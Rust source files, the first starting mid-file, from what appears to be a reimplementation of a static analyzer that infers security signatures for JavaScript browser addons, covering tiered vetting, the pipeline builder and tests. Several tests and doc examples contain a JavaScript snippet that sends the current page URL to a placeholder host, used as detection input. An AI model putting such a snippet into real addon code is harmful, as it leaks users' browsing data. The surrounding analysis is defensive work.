    /// Index of that rung in the [`LadderSpec`].
    pub rung: usize,
    /// Every escalation taken on the way, in order.
    pub escalations: Vec<Escalation>,
}

impl LadderOutcome {
    /// True when the first rung resolved the addon (no escalations).
    pub fn resolved_at_tier0(&self) -> bool {
        self.rung == 0
    }
}

/// Runs `source` up the ladder. Each rung runs the full pipeline under
/// its own [`AnalysisConfig`](jsanalysis::AnalysisConfig); the first
/// rung whose outcome is terminal under the escalation predicate above
/// ends the climb. The final rung is always terminal.
pub fn vet_ladder(source: &str, ladder: &LadderSpec) -> LadderOutcome {
    let mut escalations = Vec::new();
    for (i, rung) in ladder.rungs.iter().enumerate() {
        let last = i + 1 == ladder.rungs.len();
        let result = Pipeline::new().config(rung.config.clone()).run(source);
        let reason = match &result {
            Ok(report) if !report.signature.flows.is_empty() => Some(EscalationReason::Flows),
            Err(Error::Budget {
                kind: BudgetKind::Steps | BudgetKind::Deadline,
                ..
            }) => Some(EscalationReason::Budget),
            _ => None,
        };
        match reason {
            Some(reason) if !last => escalations.push(Escalation {
                from: rung.name.clone(),
                to: ladder.rungs[i + 1].name.clone(),
                reason,
            }),
            _ => {
                return LadderOutcome {
                    result,
                    tier: rung.name.clone(),
                    rung: i,
                    escalations,
                }
            }
        }
    }
    unreachable!("the final rung is always terminal")
}

#[cfg(test)]
mod tests {
    use super::*;
    use jsanalysis::{AnalysisConfig, LadderRung};

    #[test]
    fn benign_addon_resolves_at_tier0() {
        let out = vet_ladder("var x = 1 + 2;", &LadderSpec::standard());
        assert!(out.resolved_at_tier0(), "flow-free addon must not escalate");
        assert_eq!(out.tier, "tier0");
        assert!(out.escalations.is_empty());
        assert!(out.result.unwrap().signature.flows.is_empty());
    }

    #[test]
    fn flowful_addon_escalates_to_full() {
        let out = vet_ladder(
            "var u = content.location.href;\n\
             var r = XHRWrapper(\"http://x.example.com\");\n\
             r.send(u);",
            &LadderSpec::standard(),
        );
        assert_eq!(out.tier, "full");
        assert_eq!(out.rung, 1);
        assert_eq!(
            out.escalations,
            [Escalation {
                from: "tier0".to_owned(),
                to: "full".to_owned(),
                reason: EscalationReason::Flows,
            }]
        );
        assert!(!out.result.unwrap().signature.flows.is_empty());
    }

    #[test]
    fn tier0_budget_exhaustion_escalates_not_errors() {
        // A one-step first rung exhausts immediately; the full rung
        // still delivers the verdict.
        let ladder = LadderSpec {
            rungs: vec![
                LadderRung {
                    name: "starved".to_owned(),
                    config: AnalysisConfig::tier0().with_step_budget(1),
                },
                LadderRung {
                    name: "full".to_owned(),
                    config: AnalysisConfig::tier_full(),
                },
            ],
        };
        let out = vet_ladder("var x = 1; var y = x;", &ladder);
        assert_eq!(out.tier, "full");
        assert_eq!(out.escalations.len(), 1);
        assert_eq!(out.escalations[0].reason, EscalationReason::Budget);
        assert!(out.result.is_ok(), "budget trips at tier 0 must not surface");
    }

    #[test]
    fn parse_errors_are_terminal_at_tier0() {
        let out = vet_ladder("var = ;", &LadderSpec::standard());
        assert_eq!(out.tier, "tier0", "parse failure must not climb the ladder");
        assert!(matches!(out.result, Err(Error::Parse(_))));
    }
}
