//! # addon-sig
//!
//! A from-scratch Rust reproduction of *Security Signature Inference for
//! JavaScript-based Browser Addons* (Kashyap & Hardekopf, CGO 2014): a
//! static analysis that infers **security signatures** for
//! JavaScript-based browser addons.
//!
//! A signature describes (1) information flows between interesting
//! sources (current URL, key presses, cookies, ...) and interesting sinks
//! (network sends annotated with the inferred network domain, script
//! injection, ...), classified by one of eight *flow types*; and (2)
//! interesting API usage. Signatures give an addon vetter a behavioral
//! summary to compare against the addon's stated purpose instead of a
//! brittle pass/fail policy check.
//!
//! The pipeline (matching the paper's three phases):
//!
//! 1. **Base analysis** ([`jsanalysis`]): parse ([`jsparser`]) and lower
//!    ([`jsir`]) the addon, then run a flow- and context-sensitive
//!    abstract interpreter computing pointer, prefix-string
//!    ([`jsdomains::Pre`], Section 5) and control-flow information, plus
//!    per-statement read/write sets.
//! 2. **Annotated PDG** ([`jspdg`], Section 3): data-dependence edges
//!    (`datastrong`/`dataweak`) and staged control-dependence edges
//!    (`local`/`nonlocexp`/`nonlocimp`, each optionally amplified).
//! 3. **Signature inference** ([`jssig`], Section 4): per-source
//!    flow-type propagation over the PDG using the Figure 4 lattice.
//!
//! # Quick start
//!
//! ```
//! use addon_sig::analyze_addon;
//!
//! let report = analyze_addon(
//!     "var url = content.location.href;\n\
//!      var req = XHRWrapper(\"http://rank.example.com/\");\n\
//!      req.send(url);",
//! )?;
//! // The URL flows to the network with the strongest (explicit) type:
//! assert!(report.signature.to_string().contains("url --type1--> send"));
//! # Ok::<(), addon_sig::Error>(())
//! ```

#![warn(missing_docs)]

pub use corpus;
pub use jsanalysis;
pub use sigserve;
pub use jsdomains;
pub use jsir;
pub use jsparser;
pub use jspdg;
pub use jssig;

use jsanalysis::{AnalysisConfig, AnalysisResult};
use jsir::Lowered;
use jspdg::Pdg;
use jssig::{FlowLattice, Signature};
use std::fmt;
use std::time::{Duration, Instant};

/// Errors surfaced by the one-call pipeline.
#[derive(Debug)]
pub enum Error {
    /// The addon failed to parse.
    Parse(jsparser::ParseError),
    /// The base analysis hit its step limit (results would be partial).
    StepLimit,
    /// The caller-imposed analysis budget (`AnalysisConfig::step_budget`
    /// or `deadline`) was exhausted. Unlike [`Error::StepLimit`] — the
    /// interpreter's own safety valve — this is a vetting-service policy
    /// decision, and carries how far the analysis got.
    BudgetExhausted {
        /// Worklist steps executed when the budget tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop.
        elapsed: Duration,
    },
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::Parse(e) => write!(f, "parse error: {e}"),
            Error::StepLimit => write!(f, "analysis exceeded its step budget"),
            Error::BudgetExhausted { steps, elapsed } => write!(
                f,
                "analysis budget exhausted after {steps} steps ({}µs)",
                elapsed.as_micros()
            ),
        }
    }
}

impl std::error::Error for Error {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Error::Parse(e) => Some(e),
            Error::StepLimit | Error::BudgetExhausted { .. } => None,
        }
    }
}

impl From<jsparser::ParseError> for Error {
    fn from(e: jsparser::ParseError) -> Error {
        Error::Parse(e)
    }
}

/// Everything the pipeline produced, including intermediate artifacts and
/// the per-phase timings reported in the paper's Table 2.
pub struct Report {
    /// The lowered program and CFG.
    pub lowered: Lowered,
    /// Base-analysis results (read/write sets, call graph, sinks, ...).
    pub analysis: AnalysisResult,
    /// The annotated program dependence graph.
    pub pdg: Pdg,
    /// The inferred security signature.
    pub signature: Signature,
    /// Phase 1 (base analysis) wall time.
    pub p1: Duration,
    /// Phase 2 (PDG construction) wall time.
    pub p2: Duration,
    /// Phase 3 (signature inference) wall time.
    pub p3: Duration,
}

/// Runs the full pipeline with default configuration.
///
/// # Errors
///
/// Returns [`Error::Parse`] on malformed input, [`Error::StepLimit`] if
/// the abstract interpreter could not finish within its step budget.
pub fn analyze_addon(source: &str) -> Result<Report, Error> {
    analyze_addon_with_config(source, &AnalysisConfig::default(), &FlowLattice::paper())
}

/// Runs the full pipeline with explicit configuration.
///
/// # Errors
///
/// Same as [`analyze_addon`].
pub fn analyze_addon_with_config(
    source: &str,
    config: &AnalysisConfig,
    lattice: &FlowLattice,
) -> Result<Report, Error> {
    let ast = jsparser::parse(source)?;
    let lowered = jsir::lower(&ast);

    let start = Instant::now();
    let analysis = jsanalysis::analyze(&lowered, config);
    let p1 = start.elapsed();
    if let Some(b) = analysis.budget_exhausted {
        return Err(Error::BudgetExhausted {
            steps: b.steps,
            elapsed: b.elapsed,
        });
    }
    if analysis.hit_step_limit {
        return Err(Error::StepLimit);
    }

    let start = Instant::now();
    let pdg = Pdg::build(&lowered, &analysis);
    let p2 = start.elapsed();

    let start = Instant::now();
    let signature = jssig::infer_signature(&lowered, &analysis, &pdg, lattice);
    let p3 = start.elapsed();

    Ok(Report {
        lowered,
        analysis,
        pdg,
        signature,
        p1,
        p2,
        p3,
    })
}

/// The full pipeline packaged for the [`sigserve`] daemon: one source,
/// one configuration, a [`sigserve::VetOutcome`]. Budget exhaustion maps
/// to the degraded `Timeout` outcome (the daemon answers
/// `verdict:"timeout"` and keeps its worker); everything else that fails
/// maps to `Error`. The signature JSON is exactly what `vet --json`
/// prints, so service responses reproduce the CLI's bytes.
pub fn service_analyze(source: &str, config: &AnalysisConfig) -> sigserve::VetOutcome {
    match analyze_addon_with_config(source, config, &FlowLattice::paper()) {
        Ok(report) => sigserve::VetOutcome::Report {
            signature_json: report.signature.to_json(),
            p1: report.p1,
            p2: report.p2,
            p3: report.p3,
        },
        Err(Error::BudgetExhausted { steps, elapsed }) => {
            sigserve::VetOutcome::Timeout { steps, elapsed }
        }
        Err(e) => sigserve::VetOutcome::Error {
            message: e.to_string(),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipeline_runs() {
        let r = analyze_addon("var x = 1;").unwrap();
        assert!(r.signature.is_empty());
        assert!(r.analysis.steps > 0);
    }

    #[test]
    fn parse_errors_surface() {
        match analyze_addon("var = ;") {
            Err(Error::Parse(_)) => {}
            other => panic!("expected parse error, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn error_display() {
        let e = Error::StepLimit;
        assert!(e.to_string().contains("step budget"));
        let e = Error::BudgetExhausted {
            steps: 42,
            elapsed: Duration::from_micros(7),
        };
        assert!(e.to_string().contains("42 steps"));
    }

    #[test]
    fn budget_exhaustion_surfaces_as_error() {
        let config = AnalysisConfig {
            step_budget: Some(1),
            ..AnalysisConfig::default()
        };
        match analyze_addon_with_config("var x = 1; var y = x;", &config, &FlowLattice::paper()) {
            Err(Error::BudgetExhausted { steps, .. }) => assert!(steps > 1),
            other => panic!("expected BudgetExhausted, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn service_analyze_maps_outcomes() {
        let default = AnalysisConfig::default();
        match service_analyze("var x = 1;", &default) {
            sigserve::VetOutcome::Report { signature_json, .. } => {
                assert!(signature_json.starts_with('{'));
            }
            other => panic!("expected Report, got {other:?}"),
        }
        match service_analyze("var = ;", &default) {
            sigserve::VetOutcome::Error { message } => {
                assert!(message.contains("parse error"));
            }
            other => panic!("expected Error, got {other:?}"),
        }
        let tight = AnalysisConfig {
            step_budget: Some(1),
            ..AnalysisConfig::default()
        };
        match service_analyze("var x = 1; var y = x;", &tight) {
            sigserve::VetOutcome::Timeout { steps, .. } => assert!(steps > 1),
            other => panic!("expected Timeout, got {other:?}"),
        }
    }
}
