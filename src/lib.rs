//! # addon-sig
//!
//! A from-scratch Rust reproduction of *Security Signature Inference for
//! JavaScript-based Browser Addons* (Kashyap & Hardekopf, CGO 2014): a
//! static analysis that infers **security signatures** for
//! JavaScript-based browser addons.
//!
//! A signature describes (1) information flows between interesting
//! sources (current URL, key presses, cookies, ...) and interesting sinks
//! (network sends annotated with the inferred network domain, script
//! injection, ...), classified by one of eight *flow types*; and (2)
//! interesting API usage. Signatures give an addon vetter a behavioral
//! summary to compare against the addon's stated purpose instead of a
//! brittle pass/fail policy check.
//!
//! The pipeline (matching the paper's three phases):
//!
//! 1. **Base analysis** ([`jsanalysis`]): parse ([`jsparser`]) and lower
//!    ([`jsir`]) the addon, then run a flow- and context-sensitive
//!    abstract interpreter computing pointer, prefix-string
//!    ([`jsdomains::Pre`], Section 5) and control-flow information, plus
//!    per-statement read/write sets.
//! 2. **Annotated PDG** ([`jspdg`], Section 3): data-dependence edges
//!    (`datastrong`/`dataweak`) and staged control-dependence edges
//!    (`local`/`nonlocexp`/`nonlocimp`, each optionally amplified).
//! 3. **Signature inference** ([`jssig`], Section 4): per-source
//!    flow-type propagation over the PDG using the Figure 4 lattice.
//!
//! # Quick start
//!
//! ```
//! use addon_sig::analyze_addon;
//!
//! let report = analyze_addon(
//!     "var url = content.location.href;\n\
//!      var req = XHRWrapper(\"http://rank.example.com/\");\n\
//!      req.send(url);",
//! )?;
//! // The URL flows to the network with the strongest (explicit) type:
//! assert!(report.signature.to_string().contains("url --type1--> send"));
//! # Ok::<(), addon_sig::Error>(())
//! ```
//!
//! # The `Pipeline` builder
//!
//! Non-default runs go through [`Pipeline`], which owns the knobs that
//! used to be loose function parameters and threads an optional
//! [`sigtrace::Tracer`] through every phase:
//!
//! ```
//! use addon_sig::Pipeline;
//! use jsanalysis::AnalysisConfig;
//! use sigtrace::SpanCollector;
//!
//! let mut spans = SpanCollector::new();
//! let report = Pipeline::new()
//!     .config(AnalysisConfig::default().with_context_depth(2))
//!     .tracer(&mut spans)
//!     .run("var x = 1;")?;
//! assert!(report.counters.get(sigtrace::Counter::WorklistSteps) > 0);
//! assert!(spans.spans().iter().any(|s| s.name == "phase1"));
//! # Ok::<(), addon_sig::Error>(())
//! ```

#![warn(missing_docs)]

pub mod drift;
pub mod ladder;

pub use corpus;
pub use jsanalysis;
pub use jsdomains;
pub use jsir;
pub use jsparser;
pub use jspdg;
pub use jssig;
pub use sigfleet;
pub use sigobs;
pub use sigserve;
pub use sigtrace;

use jsanalysis::{AnalysisConfig, AnalysisResult, BudgetKind, IncrementalStats, SummaryStore};
use jsir::Lowered;
use jspdg::Pdg;
use jssig::{FlowLattice, Signature};
use sigtrace::{
    Attribution, AttributionSink, Counter, Counters, JobProfile, MetricsRegistry, PhaseTimings,
    Trace, Tracer,
};
use std::fmt;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Errors surfaced by the pipeline.
///
/// `#[non_exhaustive]`: match with a trailing `_` arm; later versions
/// may add variants (e.g. resource classes beyond steps and time).
#[derive(Debug)]
#[non_exhaustive]
pub enum Error {
    /// The addon failed to parse.
    Parse(jsparser::ParseError),
    /// An analysis budget tripped before the fixpoint finished, so
    /// results would be partial. `kind` says *which* limit: the
    /// interpreter's own safety valve (`max_steps`), a caller-imposed
    /// step budget, or a wall-clock deadline.
    Budget {
        /// Which limit tripped.
        kind: BudgetKind,
        /// Worklist steps executed when it tripped.
        steps: usize,
        /// Wall time spent in the fixpoint loop (zero for the safety
        /// valve, which does not run a clock).
        elapsed: Duration,
        /// The hotspot postmortem: where the exhausted budget went,
        /// when the pipeline ran with [`Pipeline::profile`] enabled.
        /// Boxed so the error stays small on the happy path.
        profile: Option<Box<JobProfile>>,
    },
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Error::Parse(e) => write!(f, "parse error: {e}"),
            Error::Budget {
                kind,
                steps,
                elapsed,
                ..
            } => write!(
                f,
                "analysis {kind} exhausted after {steps} steps ({}µs)",
                elapsed.as_micros()
            ),
        }
    }
}

impl std::error::Error for Error {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Error::Parse(e) => Some(e),
            Error::Budget { .. } => None,
        }
    }
}

impl From<jsparser::ParseError> for Error {
    fn from(e: jsparser::ParseError) -> Error {
        Error::Parse(e)
    }
}

/// Everything the pipeline produced, including intermediate artifacts,
/// the per-phase timings reported in the paper's Table 2, and the
/// pipeline counters (deterministic work measures; see [`sigtrace`]).
pub struct Report {
    /// The lowered program and CFG.
    pub lowered: Lowered,
    /// Base-analysis results (read/write sets, call graph, sinks, ...).
    pub analysis: AnalysisResult,
    /// The annotated program dependence graph.
    pub pdg: Pdg,
    /// The inferred security signature.
    pub signature: Signature,
    /// Per-phase wall times (phase 1 = base analysis, phase 2 = PDG
    /// construction, phase 3 = signature inference).
    pub timings: PhaseTimings,
    /// Pipeline work counters, collected whether or not a tracer was
    /// attached. Deterministic for a fixed source and configuration.
    pub counters: Counters,
    /// Summary-store statistics when the pipeline ran incrementally
    /// (a store was attached with [`Pipeline::summary_store`]); `None`
    /// for plain cold runs.
    pub incremental: Option<IncrementalStats>,
    /// Per-job cost attribution (which functions, context depths and
    /// phases ate the budget), when [`Pipeline::profile`] was enabled;
    /// `None` otherwise.
    pub profile: Option<JobProfile>,
}

/// The pipeline, assembled one knob at a time:
///
/// `Pipeline::new().config(cfg).lattice(l).tracer(&mut t).run(src)`
///
/// Each setter consumes and returns the builder. [`Pipeline::run`]
/// executes parse → lower → phase 1 → phase 2 → phase 3, emitting one
/// span per stage (plus the phases' own sub-spans) to the attached
/// tracer and collecting the pipeline counters either way.
#[must_use = "a Pipeline does nothing until .run(source)"]
pub struct Pipeline<'t> {
    config: AnalysisConfig,
    lattice: FlowLattice,
    trace: Trace<'t>,
    summary_store: Option<Arc<dyn SummaryStore>>,
    profile: bool,
}

impl Pipeline<'static> {
    /// A pipeline with the default configuration, the paper's flow-type
    /// lattice, and no tracer.
    pub fn new() -> Pipeline<'static> {
        Pipeline {
            config: AnalysisConfig::default(),
            lattice: FlowLattice::paper(),
            trace: Trace::Off,
            summary_store: None,
            profile: false,
        }
    }
}

impl Default for Pipeline<'static> {
    fn default() -> Pipeline<'static> {
        Pipeline::new()
    }
}

impl<'t> Pipeline<'t> {
    /// Replaces the analysis configuration.
    pub fn config(mut self, config: AnalysisConfig) -> Pipeline<'t> {
        self.config = config;
        self
    }

    /// Replaces the flow-type lattice.
    pub fn lattice(mut self, lattice: FlowLattice) -> Pipeline<'t> {
        self.lattice = lattice;
        self
    }

    /// Attaches a tracer: every phase reports spans and counters to it.
    /// The returned builder borrows the tracer until [`Pipeline::run`].
    pub fn tracer<'u>(self, tracer: &'u mut dyn Tracer) -> Pipeline<'u> {
        Pipeline {
            config: self.config,
            lattice: self.lattice,
            trace: Trace::On(tracer),
            summary_store: self.summary_store,
            profile: self.profile,
        }
    }

    /// Enables per-job cost attribution: the base analysis tallies
    /// every worklist step against its owning `(function, context
    /// class)` bucket and the resulting [`JobProfile`] lands on
    /// [`Report::profile`] — or rides the [`Error::Budget`] it produced,
    /// so timeouts come with their own postmortem. Costs two clock
    /// reads per worklist step when on (gated < 5% end to end in CI),
    /// exactly one predictable branch when off.
    pub fn profile(mut self, enabled: bool) -> Pipeline<'t> {
        self.profile = enabled;
        self
    }

    /// Attaches a per-function summary store: the base analysis runs
    /// incrementally, splicing in stored summaries for unchanged
    /// functions and re-extracting summaries for whatever ran live.
    /// Results are bit-identical to a cold run; the hit/miss statistics
    /// land in [`Report::incremental`].
    pub fn summary_store(mut self, store: Arc<dyn SummaryStore>) -> Pipeline<'t> {
        self.summary_store = Some(store);
        self
    }

    /// Runs the full pipeline.
    ///
    /// # Errors
    ///
    /// [`Error::Parse`] on malformed input; [`Error::Budget`] when the
    /// safety valve, a step budget, or a deadline cut the base analysis
    /// short.
    pub fn run(self, source: &str) -> Result<Report, Error> {
        let Pipeline {
            config,
            lattice,
            trace,
            summary_store,
            profile,
        } = self;
        // The user's tracer (if any) sits behind a tap that also keeps
        // the counters for the Report. The tap is only touched at phase
        // granularity — the fixpoint loops accumulate their counts in
        // plain integers — so running it unconditionally costs a handful
        // of calls per addon, not per step.
        let mut tap = CounterTap {
            user: match trace {
                Trace::Off => None,
                Trace::On(t) => Some(t),
            },
            counters: Counters::new(),
        };
        let mut trace = Trace::On(&mut tap);

        trace.span_start("parse");
        let parsed = jsparser::parse(source);
        trace.span_end("parse");
        let ast = parsed?;

        trace.span_start("lower");
        let lowered = jsir::lower(&ast);
        trace.span_end("lower");

        trace.span_start("phase1");
        let start = Instant::now();
        let mut sink = AttributionSink::new();
        let mut attr = if profile {
            Attribution::on(&mut sink)
        } else {
            Attribution::Off
        };
        let (analysis, incremental) = match &summary_store {
            Some(store) => {
                let (a, stats) = jsanalysis::analyze_incremental_attributed(
                    &lowered,
                    &config,
                    store.as_ref(),
                    &mut trace,
                    &mut attr,
                );
                (a, Some(stats))
            }
            None => (
                jsanalysis::analyze_attributed(&lowered, &config, &mut trace, &mut attr),
                None,
            ),
        };
        drop(attr);
        let p1 = start.elapsed();
        trace.span_end("phase1");
        // Rolls what phase 1 attributed into the deterministic profile;
        // a budget abort carries only the phases that actually ran.
        let us = |d: Duration| d.as_micros().min(u128::from(u64::MAX)) as u64;
        let mut job_profile = profile.then(|| {
            let mut p = sink.into_profile(analysis.steps as u64);
            p.phases = vec![("phase1".to_owned(), us(p1))];
            p
        });
        if let Some(b) = &analysis.budget_exhausted {
            return Err(Error::Budget {
                kind: b.kind,
                steps: b.steps,
                elapsed: b.elapsed,
                profile: job_profile.map(Box::new),
            });
        }
        if analysis.hit_step_limit {
            return Err(Error::Budget {
                kind: BudgetKind::SafetyValve,
                steps: analysis.steps,
                elapsed: Duration::ZERO,
                profile: job_profile.map(Box::new),
            });
        }

        // Triage fast path: in triage tiers, when phase 1 alone proves
        // no flow entry can exist (no reachable interesting-source read,
        // or no reachable sink), skip PDG construction — phase 3 against
        // an empty PDG produces the byte-identical flows-free signature
        // (sinks and API entries are phase-1-derived). This is what makes
        // tier 0 cheap on benign-heavy traffic: phase 2 is 30–50% of a
        // typical addon's cost. Gated on `config.triage` (not done
        // unconditionally) because the skip changes verdict provenance —
        // no witnesses or PDG paths are possible — and tier identity in
        // caches hinges on the knob being part of the canonical config.
        let triaged = config.triage && jssig::flows_impossible(&analysis);
        let (pdg, p2) = if triaged {
            (Pdg::default(), Duration::ZERO)
        } else {
            trace.span_start("phase2");
            let start = Instant::now();
            let pdg = Pdg::build_traced(&lowered, &analysis, &mut trace);
            let p2 = start.elapsed();
            trace.span_end("phase2");
            (pdg, p2)
        };

        trace.span_start("phase3");
        let start = Instant::now();
        let signature =
            jssig::infer_signature_traced(&lowered, &analysis, &pdg, &lattice, &mut trace);
        let p3 = start.elapsed();
        trace.span_end("phase3");

        drop(trace);
        if let Some(p) = &mut job_profile {
            p.phases.push(("phase2".to_owned(), us(p2)));
            p.phases.push(("phase3".to_owned(), us(p3)));
        }
        Ok(Report {
            lowered,
            analysis,
            pdg,
            signature,
            timings: PhaseTimings::new(p1, p2, p3),
            counters: tap.counters,
            incremental,
            profile: job_profile,
        })
    }
}

/// Forwards trace events to an optional user tracer while keeping its
/// own copy of the counters (so `Report::counters` is populated even
/// without a tracer attached).
struct CounterTap<'a> {
    user: Option<&'a mut dyn Tracer>,
    counters: Counters,
}

impl Tracer for CounterTap<'_> {
    fn span_start(&mut self, name: &str) {
        if let Some(user) = &mut self.user {
            user.span_start(name);
        }
    }

    fn span_end(&mut self, name: &str) {
        if let Some(user) = &mut self.user {
            user.span_end(name);
        }
    }

    fn add(&mut self, counter: Counter, delta: u64) {
        self.counters.add(counter, delta);
        if let Some(user) = &mut self.user {
            user.add(counter, delta);
        }
    }

    fn add_counters(&mut self, counters: &Counters) {
        self.counters.merge(counters);
        if let Some(user) = &mut self.user {
            user.add_counters(counters);
        }
    }
}

/// Runs the full pipeline with default configuration
/// (`Pipeline::new().run(source)`).
///
/// # Errors
///
/// Returns [`Error::Parse`] on malformed input, [`Error::Budget`] if the
/// abstract interpreter could not finish within its limits.
pub fn analyze_addon(source: &str) -> Result<Report, Error> {
    Pipeline::new().run(source)
}

/// Runs the pipeline with cost attribution on and returns the
/// [`JobProfile`] — the `vet profile` entry point. The worklist order
/// is pinned to RPO regardless of what `config` asked for: per-bucket
/// step tallies are order-dependent by design (like the worklist
/// counters), and pinning makes the hotspot table deterministic across
/// FIFO/RPO configurations and thread counts, so it can be golden-tested
/// bit-identically.
///
/// Budget exhaustion is not an error here — a profile of where the
/// exhausted budget went is exactly what the caller asked for — so only
/// parse failures (and a budget trip so early the attribution sink is
/// empty alongside a missing profile) surface as `Err`.
pub fn profile_addon(source: &str, config: &AnalysisConfig) -> Result<JobProfile, Error> {
    let pinned = config
        .clone()
        .with_worklist(jsanalysis::WorklistOrder::Rpo);
    match Pipeline::new().config(pinned).profile(true).run(source) {
        Ok(report) => Ok(report
            .profile
            .expect("Pipeline::profile(true) always attaches a profile")),
        Err(Error::Budget {
            profile: Some(profile),
            ..
        }) => Ok(*profile),
        Err(e) => Err(e),
    }
}

/// The full pipeline packaged for the [`sigserve`] daemon: one source,
/// one configuration, a [`sigserve::VetOutcome`], with the run's
/// pipeline counters and phase latencies folded into the daemon's
/// metrics registry. Caller-imposed budget exhaustion (step budget or
/// deadline) maps to the degraded `Timeout` outcome (the daemon answers
/// `verdict:"timeout"` and keeps its worker); the interpreter's own
/// safety valve and parse failures map to `Error`. The signature JSON is
/// exactly what `vet --json` prints, so service responses reproduce the
/// CLI's bytes.
pub fn service_engine(
    source: &str,
    config: &AnalysisConfig,
    metrics: &MetricsRegistry,
) -> sigserve::VetOutcome {
    service_engine_traced(source, config, metrics, Trace::Off)
}

/// [`service_engine`] plus a [`sigtrace::Trace`]: when the daemon's
/// event log runs at debug level it passes a tracer here, and every
/// pipeline phase span lands in the log tagged with the owning job's
/// request ID. `Trace::Off` makes this exactly [`service_engine`].
/// This is the engine `vet serve` installs via
/// [`sigserve::ServerBuilder::analyze_traced`].
pub fn service_engine_traced(
    source: &str,
    config: &AnalysisConfig,
    metrics: &MetricsRegistry,
    trace: Trace<'_>,
) -> sigserve::VetOutcome {
    // Service runs always attribute cost (gated < 5% overhead in CI):
    // the daemon's contract is that every timeout verdict carries its
    // hotspot postmortem, and that can't be reconstructed after the fact.
    let pipeline = Pipeline::new().config(config.clone()).profile(true);
    let result = match trace {
        Trace::On(tracer) => pipeline.tracer(tracer).run(source),
        Trace::Off => pipeline.run(source),
    };
    finish_service(result, metrics)
}

/// [`service_engine_traced`] with a per-function summary store attached:
/// resubmitting an edited addon re-analyzes only the changed functions
/// and splices stored summaries for the rest. Per-job statistics land in
/// the daemon's metrics registry as the `summary_hits`,
/// `summary_misses` and `functions_reanalyzed` counters (plus
/// `summary_abandoned` for warm runs that had to fall back to a cold
/// re-run), so they show up in `stats` responses and the Prometheus
/// exposition. With an event log attached, each completed job also
/// emits a `summary_lookup` record carrying the same statistics. This
/// is what `vet serve --summary-dir DIR` installs.
pub fn service_engine_incremental(
    source: &str,
    config: &AnalysisConfig,
    metrics: &MetricsRegistry,
    store: &Arc<dyn SummaryStore>,
    log: Option<&sigserve::EventLog>,
    trace: Trace<'_>,
) -> sigserve::VetOutcome {
    let pipeline = Pipeline::new()
        .config(config.clone())
        .summary_store(Arc::clone(store))
        .profile(true);
    let result = match trace {
        Trace::On(tracer) => pipeline.tracer(tracer).run(source),
        Trace::Off => pipeline.run(source),
    };
    if let (Ok(report), Some(log)) = (&result, log) {
        if let Some(stats) = &report.incremental {
            let n = |v: u64| minijson::Json::from(v as f64);
            log.log(
                sigserve::Level::Info,
                "summary_lookup",
                &[
                    ("hits", n(stats.summary_hits)),
                    ("misses", n(stats.summary_misses)),
                    ("reanalyzed", n(stats.functions_reanalyzed)),
                    ("total", n(stats.total_functions)),
                    ("abandoned", n(stats.abandoned)),
                ],
            );
        }
    }
    finish_service(result, metrics)
}

/// Maps a pipeline result onto a [`sigserve::VetOutcome`] and folds its
/// counters, phase latencies and (for incremental runs) summary-store
/// statistics into the daemon's metrics registry.
fn finish_service(result: Result<Report, Error>, metrics: &MetricsRegistry) -> sigserve::VetOutcome {
    match result {
        Ok(report) => {
            metrics.merge_counters(&report.counters);
            let us = |d: Duration| d.as_micros().min(u128::from(u64::MAX)) as u64;
            metrics.record("pipeline_p1_us", us(report.timings.p1));
            metrics.record("pipeline_p2_us", us(report.timings.p2));
            metrics.record("pipeline_p3_us", us(report.timings.p3));
            if let Some(stats) = &report.incremental {
                metrics.add("summary_hits", stats.summary_hits);
                metrics.add("summary_misses", stats.summary_misses);
                metrics.add("functions_reanalyzed", stats.functions_reanalyzed);
                metrics.add("summary_abandoned", stats.abandoned);
            }
            match report.profile {
                Some(profile) => sigserve::VetOutcome::report_profiled(
                    report.signature.to_json(),
                    report.timings,
                    profile,
                ),
                None => sigserve::VetOutcome::report(report.signature.to_json(), report.timings),
            }
        }
        Err(Error::Budget {
            kind: BudgetKind::Steps | BudgetKind::Deadline,
            steps,
            elapsed,
            profile,
        }) => match profile {
            Some(profile) => sigserve::VetOutcome::timeout_profiled(steps, elapsed, *profile),
            None => sigserve::VetOutcome::timeout(steps, elapsed),
        },
        Err(e) => sigserve::VetOutcome::error(e.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sigtrace::SpanCollector;

    #[test]
    fn pipeline_runs() {
        let r = analyze_addon("var x = 1;").unwrap();
        assert!(r.signature.is_empty());
        assert!(r.analysis.steps > 0);
        assert_eq!(
            r.counters.get(Counter::WorklistSteps),
            r.analysis.steps as u64,
            "report counters mirror the analysis even without a tracer"
        );
    }

    #[test]
    fn parse_errors_surface() {
        match analyze_addon("var = ;") {
            Err(Error::Parse(_)) => {}
            other => panic!("expected parse error, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn error_display() {
        let e = Error::Budget {
            kind: BudgetKind::SafetyValve,
            steps: 9,
            elapsed: Duration::ZERO,
            profile: None,
        };
        assert!(e.to_string().contains("safety valve"));
        let e = Error::Budget {
            kind: BudgetKind::Steps,
            steps: 42,
            elapsed: Duration::from_micros(7),
            profile: None,
        };
        assert!(e.to_string().contains("step budget"));
        assert!(e.to_string().contains("42 steps"));
    }

    #[test]
    fn budget_exhaustion_surfaces_as_error() {
        let config = AnalysisConfig::default().with_step_budget(1);
        match Pipeline::new().config(config).run("var x = 1; var y = x;") {
            Err(Error::Budget {
                kind: BudgetKind::Steps,
                steps,
                ..
            }) => assert!(steps > 1),
            other => panic!("expected Budget, got {:?}", other.map(|_| ())),
        }
    }

    #[test]
    fn tracer_sees_phase_spans_and_counters() {
        let mut spans = SpanCollector::new();
        let report = Pipeline::new()
            .tracer(&mut spans)
            .run("var u = content.location.href; var r = XHRWrapper(\"http://x.com\"); r.send(u);")
            .unwrap();
        for name in ["parse", "lower", "phase1", "phase2", "phase3"] {
            assert!(
                spans.spans().iter().any(|s| s.name == name && s.depth == 0),
                "missing top-level span {name}"
            );
        }
        // The phases' own sub-spans nest underneath.
